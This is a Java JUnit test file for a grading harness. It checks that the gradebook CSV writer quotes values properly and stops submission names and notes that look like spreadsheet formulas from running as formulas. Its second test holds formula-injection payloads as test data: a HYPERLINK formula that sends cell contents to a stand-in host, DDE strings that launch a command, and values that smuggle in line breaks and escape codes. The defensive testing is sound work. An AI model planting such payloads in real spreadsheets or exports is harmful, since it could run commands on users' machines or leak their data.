package dev.labkit.harness.grading;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import dev.labkit.harness.lab.LabCatalog;
import dev.labkit.harness.run.KitRoot;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class GradebookTest {

  @TempDir Path folder;

  @Test
  void quotesOnlyTheValuesThatNeedIt() throws Exception {
    var manifest = new LabCatalog(KitRoot.locate()).load("presigned-url");
    var file = folder.resolve("gradebook.csv");

    Gradebook.write(
        file,
        manifest,
        List.of(
            new GradedSubmission("03-a-rather-long-submission-name", Optional.empty(), 1500, ""),
            new GradedSubmission(
                "mallory", Optional.empty(), 0, "not graded: exit code 3, see run.log")));

    var lines = Files.readAllLines(file);
    assertThat(lines.get(0)).startsWith("submission,score,max_score,code-compiles,");
    assertThat(lines.get(1)).startsWith("03-a-rather-long-submission-name,0,100,not run,");
    assertThat(lines.get(1)).endsWith(",1.5,");
    assertThat(lines.get(2)).endsWith(",\"not graded: exit code 3, see run.log\"");
  }

  @Test
  void aFolderNameOrNoteThatLooksLikeAFormulaStaysText() throws Exception {
    var manifest = new LabCatalog(KitRoot.locate()).load("presigned-url");
    var file = folder.resolve("gradebook.csv");
    var names =
        List.of(
            "=1+2",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+2",
            "\r=1+2",
            "\uFF1D1+2",
            "bob\r\n=1+2,\"x\"\u001b[31m");

    Gradebook.write(
        file,
        manifest,
        names.stream()
            .map(
                name ->
                    new GradedSubmission(
                        name, Optional.empty(), 0, "not graded: last line =cmd|' /C calc'!A0"))
            .toList());

    var rows =
        new CsvMapper()
            .readerFor(Map.class)
            .with(CsvSchema.emptySchema().withHeader())
            .<Map<String, String>>readValues(file.toFile())
            .readAll();
    assertThat(rows).hasSize(names.size());
    assertThat(rows)
        .extracting(row -> row.get("submission"))
        .containsExactly(
            "'=1+2",
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "'+cmd|' /C calc'!A0",
            "'-2+3",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            "'\t=1+2",
            "\\r=1+2",
            "'\uFF1D1+2",
            "bob\\r\\n=1+2,\"x\"\\u001b[31m");
    assertThat(rows)
        .extracting(row -> row.get("note"))
        .containsOnly("not graded: last line =cmd|' /C calc'!A0");
    assertThat(Files.readString(file)).doesNotContain("\r", "\u001b");
  }

  @Test
  void anHonestNameIsItsOwnCell() {
    assertThat(Gradebook.cell("03-ana_lopez")).isEqualTo("03-ana_lopez");
    assertThat(Gradebook.cell("not run")).isEqualTo("not run");
    assertThat(Gradebook.cell(null)).isEmpty();
  }
}
